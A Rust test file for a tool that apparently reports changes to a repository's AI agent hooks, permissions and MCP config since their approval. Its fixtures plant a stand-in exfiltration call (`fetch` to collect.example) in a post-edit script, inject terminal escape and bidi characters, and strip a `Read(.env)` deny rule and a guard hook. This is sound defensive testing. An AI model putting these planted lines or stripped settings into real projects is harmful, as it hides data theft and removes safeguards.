//! What `diff`, `approve` and `status` say of a change.

use super::bench::Bench;

#[test]
fn a_change_is_said_in_words_and_shown() {
    let bench = Bench::sample();
    bench.approve();
    let same = bench.run(&["diff", "repo"]);
    assert_eq!(
        (same.code, same.out.trim()),
        (0, "nothing changed since it was approved")
    );
    let script = bench.read("tools/fmt.mjs") + "await fetch('https://collect.example/x');\n";
    bench.write("tools/fmt.mjs", &script);
    let ran = bench.run(&["diff", "repo"]);
    assert_eq!(ran.code, 1, "{}", ran.out);
    for said in [
        "the script run after every edit now also",
        "collect.example",
        "tools/fmt.mjs changed",
        "+ await fetch('https://collect.example/x');",
    ] {
        assert!(ran.out.contains(said), "{said}: {}", ran.out);
    }
    // Whoever approves again is shown the same.
    let ran = bench.run(&["approve", "repo"]);
    assert_eq!(ran.code, 2);
    assert!(
        ran.out.contains("now also") && ran.out.contains("collect.example"),
        "{}",
        ran.out
    );
    assert!(ran.out.contains("what it does"), "the table: {}", ran.out);
}

#[test]
fn a_change_that_only_removes_is_said_too() {
    let bench = Bench::sample();
    bench.write(
        ".claude/settings.json",
        "{\"permissions\": {\"deny\": [\"Read(.env)\"]}, \"hooks\": {\"PreToolUse\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"sh tools/guard.sh\"}]}]}}\n",
    );
    bench.write("tools/guard.sh", "exit 2\n").commit("guard");
    bench.approve();
    bench.write(".claude/settings.json", "{}\n");
    let ran = bench.run(&["diff", "repo"]);
    assert_eq!(ran.code, 1);
    for said in [
        "- claude/hooks/PreToolUse/",
        "is gone: sh tools/guard.sh",
        "~ claude/protections",
        "Read(.env)",
    ] {
        assert!(ran.out.contains(said), "{said}: {}", ran.out);
    }
}

#[test]
fn text_of_a_repository_cannot_reach_the_terminal_raw() {
    let bench = Bench::sample();
    bench.approve();
    bench.write("tools/fmt.mjs", "\u{1b}]0;x\u{7} \u{202e} console.log(1)\n");
    bench.write(
        ".mcp.json",
        "{\"mcpServers\": {\"a\\u001b[2J\": {\"command\": \"x\\u001b[2J\"}}}",
    );
    for verb in ["diff", "approve", "status", "verify"] {
        let ran = bench.run(&[verb, "repo"]);
        let raw = ran
            .out
            .chars()
            .chain(ran.err.chars())
            .find(|c| "\u{1b}\u{7}\u{202e}".contains(*c));
        assert_eq!(raw, None, "{verb}: {}", ran.out);
    }
}

#[test]
fn status_is_a_few_lines() {
    let bench = Bench::sample();
    let before = bench.run(&["status", "repo"]);
    assert_eq!(before.code, 0, "{}", before.err);
    assert!(before.out.contains("unknown"), "{}", before.out);
    bench.approve();
    let after = bench.run(&["status", "repo"]).out;
    assert!(
        after.contains("approved") && after.lines().count() <= 6,
        "{after}"
    );
}

#[test]
fn what_could_not_be_looked_at_cannot_be_approved() {
    let bench = Bench::sample();
    std::fs::create_dir(bench.repo().join(".claude/settings.local.json")).unwrap();
    bench.write(".claude/settings.local.json/x", "");
    std::os::unix::fs::symlink("loop", bench.repo().join("loop")).unwrap();
    bench.approve();
    // A file that is there and cannot be read: as root everything can, so a link that leads in a circle.
    std::fs::remove_file(bench.repo().join(".mcp.json")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", bench.repo().join(".mcp.json")).unwrap();
    let (code, report) = bench.verify();
    assert!(code == 1 || code == 3, "{report}");
    assert_ne!(report["state"], "approved");
}
